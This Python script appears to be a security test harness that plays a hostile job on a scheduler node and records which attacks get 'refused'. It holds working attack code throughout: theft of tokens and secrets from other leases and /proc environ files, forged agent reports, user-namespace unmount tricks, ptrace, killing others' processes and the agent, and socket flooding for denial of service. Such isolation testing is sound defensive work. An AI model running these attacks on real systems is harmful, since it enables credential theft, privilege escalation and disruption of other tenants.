"""Attacks of a hostile job on its node. Runs as that job: standard library only, and reports all.

``loot.py TARGETS LOOT``: reads the targets, and writes by attack its loot, or "refused: "
and the reason.
"""

# Paths come as texts, and go as such.
# ruff: noqa: PTH104, PTH107, PTH109, PTH110, PTH113, PTH123, PTH207

import contextlib
import ctypes
import errno
import glob
import json
import os
import re
import resource
import signal
import socket
import subprocess
import sys
import time
import urllib.error
import urllib.request

MARK = "stolen-goods"  # in everything that is secret here
_libc = ctypes.CDLL(None, use_errno=True)
_PTRACE_ATTACH = 16


def has_token(*paths):
    """Return the first token in files, else why there is none."""
    found = reading(*paths, mark="lh_")
    token = re.search(r"lh_[\w-]{20,}", found)
    return token[0] if token else found


def reading(*paths, mark=MARK):
    """Return the first content that has the mark, else why none could be read."""
    why = "nothing there"
    for pattern in paths:
        for path in glob.glob(pattern, include_hidden=True, recursive=True) or [pattern]:
            if os.path.exists(path) and not os.path.isfile(path):
                continue
            try:
                with open(path, "rb") as file:
                    data = file.read(1 << 20)
            except OSError as error:
                why = error.strerror
                continue
            if mark.encode() in data and path != "/proc/self/environ":
                return f"{path}: {data[:300]!r}"
    return f"refused: {why}"


def asking(told, path, token, body=None):
    request = urllib.request.Request(
        told["server"] + path,
        data=None if body is None else json.dumps(body).encode(),
        headers={"Authorization": f"Bearer {token}", "Content-Type": "application/json"},
    )
    try:
        with urllib.request.urlopen(request, timeout=20) as answer:
            return answer.read(2000).decode()
    except urllib.error.HTTPError as error:
        return f"refused: {error.code}"
    except OSError as error:  # it has not read all that it refuses
        return f"refused: {error}"


def first(*tries):
    """Return the result of the first try that succeeds."""
    for attempt in tries:
        if not attempt.startswith("refused"):
            return attempt
    return tries[-1]


def killing(pids):
    done, why = [], "nobody is there"
    for pid in pids:
        try:
            os.kill(pid, signal.SIGKILL)
            done.append(pid)
        except OSError as error:
            why = error.strerror
    return f"killed {done}" if done else f"refused: {why}"


def tracing(pids):
    done, why = [], "nobody is there"
    for pid in pids:
        if _libc.ptrace(_PTRACE_ATTACH, pid, None, None) == 0:
            done.append(pid)
        else:
            why = os.strerror(ctypes.get_errno())
    return f"traced {done}" if done else f"refused: {why}"


def mounting(told):
    """Become root of a user namespace, and look under the mount over the agent's folder."""
    state = told["state"]
    script = f"umount {state} /proc; umount -l {state}; cat {state}/agent.token /tmp/*"
    command = ["unshare", "-Urm", "sh", "-c", script]
    try:
        ran = subprocess.run(command, capture_output=True, text=True, check=False, timeout=20)
    except subprocess.TimeoutExpired as error:
        return f"it went on for ever: {error.stdout}"
    return ran.stdout if MARK in ran.stdout or "lh_" in ran.stdout else "refused: " + ran.stderr


def opening_devices(told):
    done = []
    for path in told["devices"]:
        with contextlib.suppress(OSError):
            os.close(os.open(path, os.O_RDONLY))
            done.append(path)
    for folder in ("/tmp", "/dev", "/dev/shm", os.getcwd()):
        with contextlib.suppress(OSError):
            os.mknod(f"{folder}/device", 0o020666, os.makedev(1, 5))
            done.append(f"made one in {folder}")
    return f"opened {done}" if done else "refused: none is there"


def calling(told):
    """Make the system calls behind which faults of the kernel are found."""
    done, errors = [], set()
    for name, number in told["calls"].items():
        failed = _libc.syscall(number, 0x10000000, 0, 0, 0, 0) == -1  # of a user namespace
        error = errno.errorcode[ctypes.get_errno()] if failed else "none"
        if error in ("EPERM", "ENOSYS"):
            errors.add(error)
        else:
            done.append(f"{name}: {error}")
    return f"reached {done}" if done else f"refused: {errors}"


def becoming_root():
    try:
        os.setresuid(0, 0, 0)
    except OSError as error:
        return f"refused: {error.strerror}"
    return "root"


def speaking_for(told):
    """Report steps to the agent in the name of another lease."""
    said = []
    for path in (os.environ["LEASEHOLD_ENDPOINT"], told["state"] + "/jobs.sock"):
        with contextlib.suppress(OSError), socket.socket(socket.AF_UNIX) as way:
            way.settimeout(10)
            way.connect(path)
            for secret in ("", "x", str(told["leases"][0])):
                line = {"secret": secret, "steps_done": 777, "lease_id": told["leases"][0]}
                way.sendall(json.dumps(line).encode() + b"\n")
                said.append(json.loads(way.recv(4096)))
    taken = [answer for answer in said if "error" not in answer]
    return str(taken) if taken or not said else "refused: no secret of a lease here"


def asking_the_agent(most_s):
    """Report as a lease does; returns after how many seconds the agent has answered, or None.

    As the SDK does, it connects again if it is cut off: the attack is of the same user.
    """
    began_s = time.monotonic()
    while time.monotonic() < began_s + most_s:
        with contextlib.suppress(OSError), socket.socket(socket.AF_UNIX) as way:
            way.settimeout(most_s)
            way.connect(os.environ["LEASEHOLD_ENDPOINT"])
            way.sendall(json.dumps({"secret": os.environ["LEASEHOLD_SECRET"]}).encode() + b"\n")
            if b"notice" in way.recv(4096):
                return time.monotonic() - began_s
        time.sleep(0.1)
    return None


def besieging(attack, processes, most_s):
    """Let processes attack until the agent has answered; returns whether it has."""
    pids = []
    for _ in range(processes):
        if not (pid := os.fork()):
            with contextlib.suppress(BaseException):
                attack()
            os._exit(0)
        pids.append(pid)
    time.sleep(3)
    after_s = asking_the_agent(most_s)
    for pid in pids:
        os.kill(pid, signal.SIGKILL)
        os.waitpid(pid, 0)
    return "the agent does not answer" if after_s is None else f"refused: it answers in {after_s} s"


def keeping_connections():
    """Hold as many silent connections to the agent as there are."""
    _, most = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (min(most, 4096), most))
    held = []
    while True:
        try:
            held.append(socket.socket(socket.AF_UNIX))
            held[-1].connect(os.environ["LEASEHOLD_ENDPOINT"])
        except OSError:
            time.sleep(0.01)


def flooding():
    """Send the shortest lines that there are, on one connection after the other."""
    lines = b"{}\n" * 100_000
    while True:
        with contextlib.suppress(OSError), socket.socket(socket.AF_UNIX) as way:
            way.connect(os.environ["LEASEHOLD_ENDPOINT"])
            while True:
                way.sendall(lines)


def telling_long_progress():
    """Leave 64 MiB of empty lists in the agent's file for steps."""
    path = os.environ["LEASEHOLD_PROGRESS_FILE"]
    with open(path, "wb") as file:
        file.write(b'{"steps_live": [' + b"[]," * (2**26 // 3 - 20) + b"[]]}")
    time.sleep(3)
    after_s = asking_the_agent(20)
    os.remove(path)
    return "the agent does not answer" if after_s is None else f"refused: it answers in {after_s} s"


def claiming(told):
    """Say of ever new processes that they are those of other leases, until we are killed."""
    folders = [f"{told['state']}/leases/{lease}" for lease in told["leases"]]
    running = []
    while True:
        running = [process for process in running if process.poll() is None]
        for folder in folders[len(running) :]:
            marked = {"LEASEHOLD_LEASE_FOLDER": folder}
            running.append(subprocess.Popen(["/bin/sleep", "9"], env=marked))
        time.sleep(0.002)


def attacks(told):
    state, others = told["state"], told["leases"]
    token = has_token(f"{state}/agent.token", f"{state}/**", "/proc/*/environ", "/proc/*/cmdline")
    workers = [{"index": i, "worker_type": "v100", "problem": ""} for i in range(20_000)]
    report = {"node": "n1", "incarnation": 9e9, "sequence": 1, "term": 1, "revision": 0}
    reports = [report | {"workers": workers[:count], "leases": []} for count in (20_000, 4_096)]
    tries = (token, os.environ["LEASEHOLD_SECRET"], "lh_invented")
    desired = "/v1/agent/desired?term=0&revision=0&wait_s=0"
    yield "token", lambda: token
    yield "launch", lambda: reading(*(f"{state}/leases/{i}/launch.json" for i in others))
    theirs = (f"/proc/{pid}/environ" for pid in told["pids"])
    yield "environment", lambda: reading("/proc/*/environ", *theirs)
    yield (
        "desired",
        lambda: first(
            reading(*(f"{state}/leases/{i}/lease.json" for i in others), f"{state}/agent.json"),
            *(asking(told, desired, secret) for secret in tries),
        ),
    )
    claims = (asking(told, "/v1/agent/report", one, body) for one in tries for body in reports)
    yield "workers", lambda: first(*claims)
    admin = f"{told['scheduler']}/admin.token"
    yield "admin", lambda: first(has_token(admin), asking(told, "/v1/tokens", token))
    yield (
        "tmp",
        lambda: reading(
            *("/tmp/*", "/var/tmp/*", "/dev/shm/*", f"{state}/leases/*/tmp/*"),
            *(f"/proc/{pid}/root/tmp/*" for pid in told["pids"]),
        ),
    )
    checkpoints = told["checkpoints of bob"]
    yield "checkpoints", lambda: reading(f"{checkpoints}/**", checkpoints)
    yield "output", lambda: reading(f"{state}/logs/**")
    yield "devices", lambda: opening_devices(told)
    yield "root", becoming_root
    yield "calls", lambda: calling(told)
    yield "mounts", lambda: mounting(told)
    yield "steps", lambda: speaking_for(told)
    yield "trace others", lambda: tracing(told["pids of bob"])
    yield "trace own", lambda: tracing(told["pids of eve"])
    yield "kill others", lambda: killing(told["pids of bob"])
    yield "kill own", lambda: killing(told["pids of eve"])
    yield "kill the agent", lambda: killing(told["agents"])
    yield "connections", lambda: besieging(keeping_connections, 8, 30)
    yield "short lines", lambda: besieging(flooding, 8, 30)
    yield "long progress", telling_long_progress


if __name__ == "__main__":
    with open(sys.argv[1]) as targets:
        aims = json.load(targets)
    found = {}
    for name, attack in attacks(aims):
        found[name] = attack()
        print(name, found[name], flush=True)
    with open(f"{sys.argv[2]}.half", "w") as loot:
        json.dump(found, loot)
    os.rename(f"{sys.argv[2]}.half", sys.argv[2])
    claiming(aims)
